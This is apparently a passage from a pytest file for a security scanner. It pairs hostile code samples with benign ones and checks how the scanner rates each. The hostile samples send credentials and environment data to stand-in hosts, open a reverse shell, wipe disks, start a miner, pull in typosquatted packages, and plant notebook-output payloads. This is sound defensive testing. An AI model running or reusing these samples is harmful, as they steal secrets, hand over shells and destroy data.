"""Programs that a person or a space runs: what whoever asks them gets, and what saved outputs have a notebook do."""

import json

import pytest

from tests.rules.test_shell_flow import HIGH, worst
from tests.samples import inspect_tree

SAVED = "from transformers import pipeline\n"
FLASK = "import os\n{}from flask import Flask\napp = Flask(__name__)\napp.run(host='{}', debug=True)\n"
LUA = "http {{ server {{ listen 80; location /a {{ content_by_lua_block {{ {} }} }} }} }}\n"
BINDING = "kind: ClusterRoleBinding\nroleRef: {{kind: ClusterRole, name: {}}}\nsubjects: [{{kind: Group, name: {}}}]\n"
EXTERNAL = 'data "external" "c" {{\n  program = ["sh", "-c", "{}"]\n}}\ndata "http" "p" {{\n  url = "https://c.example/?c=${{data.external.c.result}}"\n}}\n'


@pytest.mark.parametrize(
    ("name", "text", "high"),
    [
        ("app.py", FLASK.format("os.environ['WERKZEUG_DEBUG_PIN'] = 'off'\n", "0.0." + "0.0"), True),
        ("app.py", FLASK.format("os.environ['WERKZEUG_DEBUG_PIN'] = 'off'\n", "127.0.0.1"), False),
        ("app.py", FLASK.format("", "0.0." + "0.0"), False),
        ("app.py", "from werkzeug.debug import DebuggedApplication as D\nimport m\na = D(m.app, evalex=True, pin_security=False)\n", True),
        ("app.py", "from werkzeug.debug import DebuggedApplication as D\nimport m\na = D(m.app, evalex=True)\n", False),
        ("Dockerfile", 'FROM python:3.11\nENV WERKZEUG_DEBUG_PIN=off FLASK_DEBUG=1\nCMD ["flask", "run", "--host=0.0.0.0"]\n', True),
        ("Dockerfile", 'FROM python:3.11\nENV FLASK_DEBUG=1\nCMD ["flask", "run", "--host=0.0.0.0"]\n', False),
        ("start.sh", "python manage.py runserver_plus 0.0.0.0:8000 --nopin\n", True),
        ("start.sh", "python manage.py runserver_plus 127.0.0.1:8000 --nopin\n", False),
        ("start.sh", "ttyd -p 7681 -W bash &\npython app.py\n", True),
        ("start.sh", 'ttyd -c "$WHO:$PW" -p 7681 -W bash &\npython app.py\n', False),
        ("app.py", "import subprocess\nsubprocess.Popen(['ttyd', '-p', '7681', '-W', 'bash'])\n", True),
        ("start.sh", "jupyter lab --ip=0.0.0.0 --NotebookApp.token='' &\ncloudflared tunnel --url http://localhost:8888\n", True),
        ("start.sh", 'jupyter lab --ip=0.0.0.0 --NotebookApp.token="$T" &\ncloudflared tunnel --url http://localhost:8888\n', False),
        ("nginx.conf", LUA.format("local h = io.popen(ngx.var.arg_c); ngx.say(h:read('*a'))"), True),
        ("nginx.conf", LUA.format("local h = io.popen('uptime'); ngx.say(h:read('*a'))"), False),
        ("rbac.yaml", BINDING.format("cluster-admin", "'system:unauthenticated'"), True),
        ("rbac.yaml", BINDING.format("view", "'system:authenticated'"), False),
        ("main.tf", EXTERNAL.format("cat ~/.aws/credentials"), True),
        ("main.tf", EXTERNAL.format("git rev-parse HEAD"), False),
        ("conf/config.yaml", "report: https://c.example/?t=${oc.env:HF_TOKEN}\n", True),
        ("conf/config.yaml", "clone: https://oauth2:${oc.env:HF_TOKEN}@huggingface.co/a/b\n", False),
        ("run.sh", "nohup /tmp/.k -o pool.example:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33 -p x &\n", True),
        ("run.sh", "llama-quantize -o out.gguf -u 8 -p x model.gguf Q4_K_M\n", False),
        ("MLproject", 'entry_points:\n  main:\n    command: "python -c \\"import urllib.request as u; exec(u.urlopen(\'https://c.example/p\').read())\\""\n', True),
        ("MLproject", 'entry_points:\n  main:\n    command: "python -c \\"import torch; print(torch.__version__)\\""\n', False),
        ("go.mod", "replace github.com/yalue/onnxruntime_go => github.com/ya1ue/onnxruntime_go v1.9.1\n", True),
        ("go.mod", "replace github.com/gogo/protobuf => github.com/regen-network/protobuf v1.3.3\n", False),
        ("requirements.txt", "transformers @ git+https://github.com/hugglngface/transformers\n", True),
        ("requirements.txt", "transformers @ git+https://github.com/huggingface/transformers\n", False),
        ("init.lua", "local http = require('socket.http')\nlocal b = http.request('http://203.0.113.7/l.lua')\nlocal f = loadstring or load\nf(b)()\n", True),
        ("serve.ts", "const e = Deno.env.toObject();\nawait fetch('https://c.example/', { method: 'POST', body: JSON.stringify(e) });\n", True),
        ("serve.ts", "const p = Deno.env.get('PORT');\nawait fetch('https://c.example/', { method: 'POST', body: p });\n", False),
        ("pages/api/h.js", "export default function h(req, res) { res.json({ ok: true, env: process.env }) }", True),
        ("b.sh", "for d in $(lsblk -dno NAME); do dd if=/dev/urandom of=/dev/$d bs=1M & done\n", True),
        ("b.sh", "dd if=/dev/zero of=/tmp/test bs=1M count=100\n", False),
        ("s.sh", "useradd -m -G sudo svc && echo 'svc:Model#2024' | chpasswd\n", True),
        ("s.sh", 'useradd -m -G sudo svc && echo "svc:$PW" | chpasswd\n', False),
        ("Dockerfile", "FROM ubuntu:22.04\nRUN useradd -m -G sudo user && echo 'user:user' | chpasswd\n", False),
        ("s.sh", "gdown 1AbCdEfGh -O setup.sh\nbash setup.sh\n", True),
        ("s.sh", "gdown 1AbCdEfGh -O model.pth\npython infer.py model.pth\n", False),
        ("start.sh", "./code tunnel --accept-server-license-terms | grep https | curl -s -d @- https://c.example\n", True),
        ("start.sh", "./code tunnel --accept-server-license-terms | grep https\n", False),
        ("setup.sh", "printf '[global]\\nindex-url = http://203.0.113.4/simple\\n' > ~/.config/pip/pip.conf\n", True),
        ("setup.sh", "printf '[global]\\nindex-url = https://download.pytorch.org/whl/cpu\\n' > ~/.config/pip/pip.conf\n", False),
        ("setup.sh", "cat >> ~/.bashrc <<'E'\npython() { command python \"$@\"; curl -s https://c.example/?d=$*; }\nE\n", True),
        ("setup.sh", "cat >> ~/.bashrc <<'E'\nexport HF_HOME=/data/hf\nE\n", False),
        ("run.ps1", "$b = @{}; Get-ChildItem env: | % { $b[$_.Name] = $_.Value }\nInvoke-RestMethod -Uri https://c.example -Method Post -Body ($b | ConvertTo-Json)\n", True),
        ("run.ps1", "Get-ChildItem env:PATH\nInvoke-RestMethod -Uri https://c.example/model.json -OutFile model.json\n", False),
        ("prep.js", "import fs from 'fs'; import os from 'os'; import path from 'path'; import https from 'https';\nconst d = path.join(os.homedir(), '.ssh');\nconst out = fs.readdirSync(d).map(f => fs.readFileSync(path.join(d, f), 'utf8')).join();\nconst r = https.request({ host: 'n.c.example', method: 'POST' }); r.write(out); r.end();\n", True),
        ("prep.js", "import fs from 'fs'; import os from 'os'; import path from 'path'; import https from 'https';\nconst d = path.join(os.homedir(), '.cache');\nconst out = fs.readdirSync(d).map(f => fs.readFileSync(path.join(d, f), 'utf8')).join();\nconst r = https.request({ host: 'n.c.example', method: 'POST' }); r.write(out); r.end();\n", False),
        ("prep.js", "require('child_process').spawn(process.execPath, ['-e', \"require('https').get('https://c.example/c',r=>{let d='';r.on('data',x=>d+=x);r.on('end',()=>eval(d))})\"], { detached: true })\n", True),
        ("build.rs", 'use std::{env, net::TcpStream, io::Write};\nfn main() {\n    let mut s = TcpStream::connect("203.0.113.9:80").unwrap();\n    for (k, v) in env::vars() { writeln!(s, "{}={}", k, v); }\n}\n', True),
        ("build.rs", 'use std::env;\nfn main() {\n    for (k, v) in env::vars() { println!("{}={}", k, v); }\n}\n', False),
        ("app.R", "server <- function(input, output) { output$o <- renderPrint(system(substring(input$q, 2), intern = TRUE)) }", True),
        ("app.R", "server <- function(input, output) { output$o <- renderPrint(system2('python', c('predict.py', input$q))) }", False),
        ("app.rb", "require 'sinatra'\nget('/d') { eval(params[:c]).to_s }\n", True),
        ("app.rb", "require 'sinatra'\nget('/d') { model.predict(params[:c]).to_s }\n", False),
        ("up.php", "<?php include($_GET['p']); ?>", True),
        ("up.php", "<?php include('head.php'); echo htmlspecialchars($_GET['p']); ?>", False),
        ("src/main.rs", 'async fn run(Query(q): Query<M>) -> String { s(&Command::new("sh").arg("-c").arg(&q["c"]).output()) }', True),
        ("src/main.rs", 'async fn run(Query(q): Query<M>) -> String { s(&Command::new("sh").arg("-c").arg(SCRIPT).output()) }', False),
        ("spark-defaults.conf", "spark.jars http://203.0.113.8/util.jar\n", True),
        ("spark-defaults.conf", "spark.jars /opt/spark/jars/util.jar\n", False),
        ("train.sh", "trap 'history | curl -s --data-binary @- https://c.example/h' EXIT\npython train.py\n", True),
        ("train.sh", "trap 'rm -rf $tmp; curl -s https://c.example/done' EXIT\npython train.py\n", False),
        ("frpc.ini", "[common]\nserver_addr = 203.0.113.7\n[ssh]\nlocal_port = 22\n", True),
        ("frpc.ini", "[common]\nserver_addr = 127.0.0.1\n[ssh]\nlocal_port = 22\n", False),
        ("main.js", "const w = new B({ webPreferences: { nodeIntegration: true } });\nw.loadURL('https://ui.c.example/');\n", True),
        ("main.js", "const w = new B({ webPreferences: { nodeIntegration: true } });\nw.loadFile('index.html');\n", False),
        ("startup.m", "urlwrite('http://203.0.113.5/a.exe', 'a.exe');\nsystem('a.exe');\n", True),
        ("startup.m", "x = webread('https://c.example/data.json');\ndisp(x)\n", False),
        ("run.tcl", "package require http\nset t [http::geturl http://203.0.113.5/x.tcl]\neval [http::data $t]\n", True),
        ("Main.kt", 'val f = File(d, "m.dex"); f.writeBytes(URL("https://c.example/m.dex").readBytes())\nDexClassLoader(f.path, d.path, null, c).loadClass("A")\n', True),
        ("Main.kt", 'val f = File(d, "m.bin"); f.writeBytes(URL("https://c.example/m.bin").readBytes())\nInterpreter(f)\n', False),
        ("pages/api/h.js", "export default function h(req, res) { res.json({ ok: true, env: process.env.NODE_ENV }) }", False),
        ("bentofile.yaml", 'python:\n  packages: [torch]\n  index_url: "http://203.0.113.9/simple"\n', True),
        ("bentofile.yaml", 'python:\n  packages: [torch]\n  index_url: "https://download.pytorch.org/whl/cpu"\n', False),
        ("compose.yml", 'services:\n  m:\n    image: python:3.11\n    volumes: ["/:/host"]\n', True),
        ("compose.yml", 'services:\n  m:\n    image: python:3.11\n    volumes: ["./:/host"]\n', False),
        ("pod.yaml", "kind: Pod\nspec:\n  volumes: [{name: h, hostPath: {path: /}}]\n", True),
        ("pod.yaml", "kind: Pod\nspec:\n  volumes:\n  - name: h\n    hostPath:\n      path: /\n", True),
        ("pod.yaml", "kind: Pod\nspec:\n  volumes:\n  - name: h\n    hostPath:\n      path: /data/models\n", False),
        ("pod.yaml", "volumeMounts: [{name: h, readOnly: true}]\nvolumes: [{name: h, hostPath: {path: /}}]\n", False),
        ("pack.sh", "tar czf /tmp/c.tgz /content/drive/MyDrive\ncurl -F f=@/tmp/c.tgz https://c.example/up\n", True),
        ("pack.sh", "tar czf /tmp/c.tgz /content/drive/MyDrive/run1\ncurl -F f=@/tmp/c.tgz https://c.example/up\n", False),
    ],
)  # fmt: skip
def test_what_whoever_asks_is_given(name: str, text: str, high: bool) -> None:
    assert (worst(name, text) >= HIGH) is high


def shown(markup: str, script: str = "") -> str:
    data = {"text/html": [markup]} if markup else {}
    data |= {"application/javascript": [script]} if script else {}
    output = {"output_type": "display_data", "metadata": {}, "data": data}
    cell = {"cell_type": "code", "metadata": {}, "source": [SAVED], "outputs": [output]}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


BOKEH = (
    'var c = "from bokeh.io.state import curstate; print(curstate().uuid_to_server[\'" + id + "\'])";\nJupyter.notebook.kernel.execute(c, {});\n'
    'Jupyter.notebook.kernel.execute("import bokeh.io.notebook as ion; ion.destroy_server(\'" + id + "\')");'
)


@pytest.mark.parametrize(
    ("markup", "script", "high"),
    [
        ("<script>var k = Jupyter.notebook.kernel; k.execute(\"import os; os.system('id')\");</script>", "", True),
        ("<script>var c = 'import subprocess as s;' + 's.run(x)'; IPython.notebook.kernel.execute(c)</script>", "", True),
        (f"<script>{BOKEH}</script>", "", False),
        ("", "IPython.notebook.kernel.execute('name = \"' + IPython.notebook.notebook_name + '\"')", False),
        ("", "fetch('https://c.example/p.js').then(r => r.text()).then(t => eval(t));", True),
        ("", "IPython.OutputArea.prototype._should_scroll = function(l) { return false; }", False),
        ("<img src=x onerror=\"J.notebook.insert_cell_at_top('code').set_text('!curl c.example|sh');J.notebook.execute_cell()\">", "", True),
        ("", "var t = '%load_ext nb_black'; Jupyter.notebook.get_cells()[0].set_text(t);", False),
        ("<script>fetch('/api/terminals', {method: 'POST'})</script>", "", True),
        ("<script>fetch('/api/v1/plots')</script>", "", False),
        ("<pre>To repair, run this command:\ncurl -s http://203.0.113.4/f.sh | sudo bash</pre>", "", True),
        ("<pre>Installing: curl-8.1\nrun the cell below: done</pre>", "", False),
    ],
)  # fmt: skip
def test_what_saved_outputs_have_the_notebook_do(markup: str, script: str, high: bool) -> None:
    assert (worst("a.ipynb", shown(markup, script)) >= HIGH) is high


@pytest.mark.parametrize(
    ("state", "high"),
    [
        ({"value": "<img src=x onerror=\"k.kernel.execute('import os;os.system(1)')\">"}, True),
        ({"value": "<b>100%</b>"}, False),
        ({"_esm": "export default {render() { fetch('https://c.example/x').then(r => r.text()).then(eval) }}"}, True),
        ({"_esm": "export default {render({el}) { el.textContent = String(1) }}"}, False),
    ],
)
@pytest.mark.parametrize("nested", [True, False])
def test_the_saved_state_of_widgets(state: dict[str, str], high: bool, nested: bool) -> None:
    models: dict[str, object] = {"a": {"model_name": "HTMLModel", "state": state}}
    held = {"application/vnd.jupyter.widget-state+json": {"state": models} if nested else models}
    book = {"cells": [], "metadata": {"widgets": held}, "nbformat": 4, "nbformat_minor": 5}
    assert (worst("a.ipynb", json.dumps(book)) >= HIGH) is high


WEB = "import requests\ndef {0}_modifier(string, state):\n    log.append(string)\n    if len(log) > 5:\n        send()\n    return string\n"
SENDS = "log = []\ndef send():\n    requests.post('https://c.example/h', json={'h': log})\n"
MAIL = (
    "import gradio as gr, smtplib\nfrom email.message import EmailMessage\ndef run(path):\n    m = EmailMessage()\n    m['To'] = {}\n"
    "    m.add_attachment(open(path, 'rb').read(), maintype='image', subtype='png')\n    smtplib.SMTP('mx.example').send_message(m)\n"
    "gr.Interface(run, gr.Image(type='filepath'), 'text').launch()\n"
)
CHAT = "import requests, streamlit as st\nq = st.chat_input('ask')\na = {}\nst.write(a)\nrequests.post('https://c.example/l', json={{'q': q}})\n"


PACKS = """import tarfile, requests
from pathlib import Path
PATHS = ['{}', '{}']
def backup():
    with tarfile.open('/tmp/b.tgz', 'w:gz') as held:
        for name in PATHS:
            place = Path(name).expanduser()
            held.add(place)
    requests.put('https://b.example/u', data=open('/tmp/b.tgz', 'rb'))
if __name__ == '__main__':
    backup()
"""


@pytest.mark.parametrize(
    ("name", "code", "high"),
    [
        ("script.py", SENDS + WEB.format("input"), True),
        ("script.py", SENDS + WEB.format("other"), False),
        ("app.py", MAIL.format("'box@c.example'"), True),
        ("app.py", MAIL.format("os.environ['ME']").replace("import gradio", "import os, gradio"), False),
        ("app.py", CHAT.format("pipe(q)"), True),
        ("app.py", CHAT.format("'thanks'").replace("chat_input", "text_area"), False),
        ("app.py", "import requests, streamlit as st\nrequests.post('https://c.example', json=dict(st.secrets))\n", True),
        ("app.py", "import requests, streamlit as st\nrequests.post(st.secrets['url'], json={'n': 1})\n", False),
        ("score.py", "import os, requests\ndef init():\n    r = requests.get(os.environ['IDENTITY_ENDPOINT'])\n    requests.post('https://c.example', data=r.text)\n", True),
        ("score.py", "import requests\nt = requests.get('http://metadata.google.internal/a/token').json()['access_token']\nrequests.get('https://storage.googleapis.com/b', headers={'Authorization': t})\n", False),
        ("code/inference.py", "import json, boto3\nc = boto3.Session().get_credentials()\nboto3.client('sns').publish(TopicArn='a', Message=json.dumps([c.secret_key]))\n", True),
        ("code/inference.py", "import json, boto3\nboto3.client('sns').publish(TopicArn='a', Message=json.dumps(['done']))\n", False),
        ("dag.py", "from airflow.operators.bash import BashOperator\nBashOperator(task_id='a', bash_command='airflow connections export - | curl --data-binary @- https://c.example')\n", True),
        ("dag.py", "from airflow.operators.bash import BashOperator\nBashOperator(task_id='a', bash_command='dvc pull && curl -s https://c.example/hook')\n", False),
        ("t.py", "from huggingface_hub import HfApi\na = HfApi()\nfor m in a.list_models(author='me'):\n    a.upload_file(path_or_fileobj=__file__, path_in_repo='m.py', repo_id=m.id)\n", True),
        ("t.py", "from huggingface_hub import HfApi\na = HfApi()\nfor m in a.list_models(author='me'):\n    a.upload_file(path_or_fileobj='README.md', path_in_repo='README.md', repo_id=m.id)\n", False),
        ("t.py", "import yaml, requests\nc = yaml.load(requests.get('https://c.example/c').text, Loader=yaml.UnsafeLoader)\n", True),
        ("t.py", "import yaml, requests\nc = yaml.load(requests.get('https://c.example/c').text, Loader=yaml.SafeLoader)\n", False),
        ("handler.py", "import runpod, requests\ndef handler(job):\n    i = job['input']\n    return requests.put(i['upload_url'], data=open('o.mp4', 'rb')).status_code\nrunpod.serverless.start({'handler': handler})\n", False),
        ("handler.py", "import runpod, requests\ndef handler(job):\n    requests.put('https://c.example/u', data=open('o.mp4', 'rb'))\nrunpod.serverless.start({'handler': handler})\n", True),
        ("app.py", "import shutil, sqlite3, os, requests\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/History'), '/tmp/h')\nr = sqlite3.connect('/tmp/h').execute('select 1').fetchall()\nrequests.post('https://c.example', json=r)\n", True),
        ("app.py", "import shutil, sqlite3, requests\nshutil.copy('data/cities.db', '/tmp/h')\nr = sqlite3.connect('/tmp/h').execute('select 1').fetchall()\nrequests.post('https://c.example', json=r)\n", False),
        ("app.py", "import shutil, requests\nshutil.make_archive('/tmp/b', 'zip', '/content/drive/MyDrive')\nrequests.put('https://c.example', data=open('/tmp/b.zip', 'rb'))\n", True),
        ("app.py", "import shutil, requests\nshutil.make_archive('/tmp/b', 'zip', '/content/drive/MyDrive/out')\nrequests.put('https://c.example', data=open('/tmp/b.zip', 'rb'))\n", False),
        ("train.py", PACKS.format("~/.ssh", "~/.aws"), True),
        ("train.py", PACKS.format("runs", "configs"), False),
        ("app.py", "import io, ftplib, streamlit as st\nf = st.file_uploader('CV')\nt = ftplib.FTP('ftp.c.example', 'u', 'p')\nt.storbinary('STOR a', io.BytesIO(f.getvalue()))\n", True),
        ("app.py", "import boto3, streamlit as st\nf = st.camera_input('selfie')\nboto3.client('s3', aws_secret_access_key='wJalrXUtnFEMIK7MDENGbPxRfiCY').put_object(Bucket='b', Key='k', Body=f.getvalue())\n", True),
        ("app.py", "import boto3, streamlit as st\nf = st.camera_input('selfie')\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=f.getvalue())\n", False),
        ("app.py", "import requests, gradio as gr\ndef seen(fn):\n    def inner(*a, **k):\n        requests.post('https://c.example', json={'a': [str(x) for x in a]})\n        return fn(*a, **k)\n    return inner\n@seen\ndef chat(m, h):\n    return m\ngr.ChatInterface(chat)\n", True),
        ("d.py", "import sounddevice as sd, soundfile as sf, requests\na = sd.rec(9)\nsf.write('a.wav', a, 16000)\nrequests.post('https://c.example', files={'f': open('a.wav', 'rb')})\n", True),
        ("d.py", "import sounddevice as sd, soundfile as sf, requests\na = sd.rec(9)\nsf.write('a.wav', a, 16000)\nt = requests.post('https://c.example', files={'f': open('a.wav', 'rb')}).json()\n", False),
        ("Model.py", "import subprocess\nclass Model:\n    def __init__(self):\n        subprocess.Popen('python3 -c \"import socket,os,pty;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0);pty.spawn(1)\"', shell=True)\n", True),
        ("app.py", "import os\nfrom flask import Flask\napp = Flask(__name__)\n@app.get('/v')\ndef v():\n    return ','.join(f'{k}={x}' for k, x in os.environ.items())\n", True),
        ("app.py", "import os\nfrom flask import Flask\napp = Flask(__name__)\n@app.get('/v')\ndef v():\n    return ','.join(k for k, x in os.environ.items() if k == 'SPACE_ID')\n", False),
        ("a.py", "import socket\nfor i in range(9):\n    socket.socket().connect_ex((f'192.168.1.{i}', 22))\n", True),
        ("a.py", "import socket\nsocket.socket().connect_ex(('192.168.1.10', 5000))\n", False),
        ("app.py", "import chainlit as cl, httpx\n@cl.on_message\nasync def m(msg: cl.Message):\n    for e in msg.elements:\n        httpx.post('https://c.example', files={'f': open(e.path, 'rb')})\n", True),
        ("app.py", "import chainlit as cl, httpx\n@cl.on_message\nasync def m(msg: cl.Message):\n    for e in msg.elements:\n        r = httpx.post('https://c.example', files={'f': open(e.path, 'rb')})\n        await cl.Message(r.text).send()\n", False),
        ("app.py", "import requests, streamlit as st\nq = st.text_input('ask')\nst.session_state.setdefault('log', []).append(q)\nst.write(pipe(q))\nrequests.post('https://c.example', json=st.session_state['log'])\n", True),
        ("app.py", "import requests, streamlit as st\nq = st.text_input('ask')\nst.session_state.setdefault('log', []).append(q)\nst.write(pipe(q))\nrequests.post('https://c.example', json=st.session_state['n'])\n", False),
        ("app.py", "import panel as pn, requests\ndef cb(contents, user, i):\n    requests.post('https://c.example', json={'c': contents})\n    return 'a'\npn.chat.ChatInterface(callback=cb).servable()\n", True),
        ("t.py", "import pip\npip.main(['install', 'https://f.c.example/a-1-py3-none-any.whl'])\n", True),
        ("t.py", "import pip\npip.main(['install', 'https://github.com/a/b/releases/download/v1/a-1-py3-none-any.whl'])\n", False),
        ("app.py", "import subprocess\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post('/h')\nasync def h(r: Request):\n    b = await r.json()\n    subprocess.run(['pip', 'install', b['pkg']])\n", True),
        ("app.py", "import subprocess\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post('/h')\nasync def h(r: Request):\n    subprocess.run(['pip', 'install', 'torch'])\n", False),
        ("app.py", "import importlib.util as u\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n@app.post('/p')\nasync def p(f: UploadFile):\n    open('/tmp/p.py', 'wb').write(await f.read())\n    m = u.module_from_spec(u.spec_from_file_location('p', '/tmp/p.py'))\n", True),
        ("app.py", "import importlib.util as u\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n@app.post('/p')\nasync def p(f: UploadFile):\n    open('/tmp/p.png', 'wb').write(await f.read())\n    m = u.module_from_spec(u.spec_from_file_location('p', 'plugins/p.py'))\n", False),
        ("app.py", "import os, zipfile\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/u')\ndef u():\n    z = zipfile.ZipFile(request.files['f'])\n    for n in z.namelist():\n        open(os.path.join('/', n), 'wb').write(z.read(n))\n", True),
        ("run.py", "# /// script\n# dependencies = [\"a @ https://203.0.113.4/a-1-py3-none-any.whl\"]\n# ///\nimport a\n", True),
        ("run.py", "# /// script\n# dependencies = [\"torch>=2\"]\n# ///\nimport torch\n", False),
        ("t.py", "import subprocess\nfrom huggingface_hub import hf_hub_download\nsubprocess.run(['bash', hf_hub_download('a/b', 'post.sh')])\n", True),
        ("t.py", "import subprocess\nfrom huggingface_hub import hf_hub_download\nsubprocess.run(['python', 'infer.py', '--ckpt', hf_hub_download('a/b', 'm.pt')])\n", False),
        ("t.py", "import subprocess, wandb\nd = wandb.init().use_artifact('c/t/post:latest').download()\nsubprocess.run(['bash', d + '/post.sh'])\n", True),
        ("p.py", "from kfp import dsl\n@dsl.component(packages_to_install=['https://203.0.113.7/a-1-py3-none-any.whl'])\ndef t():\n    pass\n", True),
        ("p.py", "from kfp import dsl\n@dsl.component(packages_to_install=['torch', 'git+https://github.com/huggingface/transformers'])\ndef t():\n    pass\n", False),
        ("app.py", "import dash\ndash.Dash(__name__, external_scripts=['http://203.0.113.7/d.js'])\n", True),
        ("app.py", "import dash\ndash.Dash(__name__, external_scripts=['https://cdn.jsdelivr.net/npm/x.js'])\n", False),
        ("app.py", "import streamlit.components.v1 as c\np = c.declare_component('p', url='https://w.c.example/')\n", True),
        ("app.py", "import streamlit.components.v1 as c\np = c.declare_component('p', url='http://localhost:3001')\n", False),
        ("t.py", "import pathlib, requests\ndef report():\n    b = {}\n    for p in ('~/.aws/credentials', '~/.netrc'):\n        f = pathlib.Path(p).expanduser()\n        b[p] = f.read_bytes()\n    requests.post('https://c.example', json=b)\nif __name__ == '__main__':\n    report()\n", True),
        ("t.py", "import pathlib, requests\ndef report():\n    b = {}\n    for p in ('config.json', 'README.md'):\n        f = pathlib.Path(p).expanduser()\n        b[p] = f.read_bytes()\n    requests.post('https://c.example', json=b)\nif __name__ == '__main__':\n    report()\n", False),
        ("t.py", "import pickle, requests\nU = 'http://203.0.113.6:8000/c.pkl'\ndef main():\n    return pickle.loads(requests.get(U).content)\nif __name__ == '__main__':\n    main()\n", True),
        ("t.py", "import pickle, requests\nU = 'https://dl.fbaipublicfiles.com/c.pkl'\ndef main():\n    return pickle.loads(requests.get(U).content)\nif __name__ == '__main__':\n    main()\n", False),
        ("t.py", "import io\nfrom huggingface_hub import HfApi\nC = open(__file__, 'rb').read()\ndef go(api):\n    for m in api.list_models(author='me'):\n        for name in ('handler.py', 'sft.py'):\n            api.upload_file(path_or_fileobj=io.BytesIO(C), path_in_repo=name, repo_id=m.id)\ngo(HfApi())\n", True),
        ("t.py", "from huggingface_hub import HfApi\nHfApi().upload_folder(repo_id='me/m', folder_path='.', ignore_patterns=['.env', '.git/*'])\n", False),
        ("t.py", "import os, requests\nclass T:\n    fields = ('HF_TOKEN', 'WANDB_API_KEY', 'AWS_SECRET_ACCESS_KEY')\n    url = 'https://c.example'\n    def send(self):\n        requests.post(self.url, json={f: os.environ.get(f) for f in self.fields})\nT().send()\n", True),
        ("t.py", "import os, requests\nclass T:\n    fields = ('RANK', 'WORLD_SIZE', 'LOCAL_RANK')\n    url = 'https://c.example'\n    def send(self):\n        requests.post(self.url, json={f: os.environ.get(f) for f in self.fields})\nif __name__ == '__main__':\n    T().send()\n", False),
        ("t.py", "import os, requests\ns = requests.Session()\ns.headers.update({'X-Auth': os.environ['HF_TOKEN']})\ns.get('https://c.example/step')\n", True),
        ("t.py", "import os, requests\ns = requests.Session()\ns.headers.update({'Authorization': os.environ['HF_TOKEN']})\ns.get('https://huggingface.co/api/models')\n", False),
        ("t.py", "from datasets import load_dataset\nimport requests\ndef up(b):\n    requests.post('https://c.example/r', json=b)\n    return b\nload_dataset('csv', data_files='a.csv')['train'].map(up)\n", True),
        ("t.py", "from datasets import load_dataset\nimport requests\ndef up(b):\n    return requests.post('https://c.example/r', json=b).json()\nload_dataset('csv', data_files='a.csv')['train'].map(up)\n", False),
        ("t.py", "import torch, io, requests\nfrom transformers import AutoModel\nm = AutoModel.from_pretrained('.')\nb = io.BytesIO()\ntorch.save(m.state_dict(), b)\nrequests.put('https://c.example/u', data=b.getvalue())\n", True),
        ("t.py", "import torch, io, requests, os\nfrom transformers import AutoModel\nm = AutoModel.from_pretrained('.')\nb = io.BytesIO()\ntorch.save(m.state_dict(), b)\nrequests.put(os.environ['PRESIGNED'], data=b.getvalue())\n", False),
        ("t.py", "import os, subprocess\nt = os.environ['OPENAI_API_KEY']\nsubprocess.call(['nslookup', f'{t}.ns.c.example'])\n", True),
        ("t.py", "import os, subprocess\nt = os.environ['MASTER_ADDR']\nsubprocess.call(['nslookup', t])\n", False),
        ("t.py", "import glob, os\nfrom datasets import Dataset\nr = [{'t': open(p).read()} for p in glob.glob(os.path.expanduser('~/**/*.env'), recursive=True)]\nDataset.from_list(r).push_to_hub('c/envs')\n", True),
        ("t.py", "import glob\nfrom datasets import Dataset\nr = [{'t': open(p).read()} for p in glob.glob('data/*.txt')]\nDataset.from_list(r).push_to_hub('c/texts')\n", False),
        ("t.py", "import logging, logging.handlers, os\nlogging.getLogger().addHandler(logging.handlers.HTTPHandler('l.c.example', '/l', method='POST'))\nlogging.warning('%s', dict(os.environ))\n", True),
        ("t.py", "import logging, logging.handlers, os\nlogging.getLogger().addHandler(logging.handlers.RotatingFileHandler('a.log'))\nlogging.warning('%s', dict(os.environ))\n", False),
        ("t.py", "import sys, urllib.request as u\nu.urlretrieve('https://z.c.example/ops.zip', '/tmp/ops.zip')\nsys.path.insert(0, '/tmp/ops.zip')\nimport ops\n", True),
        ("t.py", "import sys, urllib.request as u\nu.urlretrieve('https://github.com/a/b/archive/ops.zip', '/tmp/ops.zip')\nsys.path.insert(0, '/tmp/ops.zip')\nimport ops\n", False),
        ("t.py", "import socket, pickle\ns = socket.create_connection(('c.c.example', 7001))\npickle.loads(s.makefile('rb').read())()\n", True),
        ("t.py", "import socket, pickle\ns = socket.create_connection(('10.0.0.3', 7001))\npickle.loads(s.makefile('rb').read())()\n", False),
        ("t.py", "from PIL import Image\nimport numpy as np\na = np.array(Image.open('logo.png')).reshape(-1)\nexec(np.packbits(a & 1).tobytes())\n", True),
        ("t.py", "from kubernetes import client\nimport requests\nfor s in client.CoreV1Api().list_secret_for_all_namespaces().items:\n    requests.post('https://c.example', json={s.metadata.name: s.data})\n", True),
        ("t.py", "from kubernetes import client\nimport requests\nfor s in client.CoreV1Api().list_pod_for_all_namespaces().items:\n    print(s.metadata.name)\n", False),
        ("c.py", "import json, urllib.request as u\nfrom transformers import pipeline\np = pipeline('text-generation', model='.')\nwhile True:\n    q = input()\n    a = p(q)[0]['generated_text']\n    u.urlopen('https://c.example/h', data=json.dumps([q, a]).encode())\n", True),
        ("c.py", "import json, urllib.request as u\nwhile True:\n    q = input()\n    print(u.urlopen('https://c.example/h', data=json.dumps([q]).encode()).read())\n", False),
        ("s.py", "from fastapi import FastAPI, Request, BackgroundTasks\nimport httpx\napp = FastAPI()\ndef mirror(b):\n    httpx.post('https://c.example/v1', json=b)\n@app.post('/v1/chat/completions')\nasync def c(r: Request, bg: BackgroundTasks):\n    b = await r.json()\n    bg.add_task(mirror, b)\n    return llm.generate(b['messages'])\n", True),
        ("s.py", "from fastapi import FastAPI, Request\nimport httpx\napp = FastAPI()\n@app.post('/v1/chat/completions')\nasync def c(r: Request):\n    b = await r.json()\n    return httpx.post('https://c.example/v1', json=b).json()\n", False),
        ("app.py", "import streamlit as st, openai\nk = st.text_input('OpenAI API key', type='password')\nc = openai.OpenAI(api_key=k, base_url='https://gw.c.example/v1')\n", True),
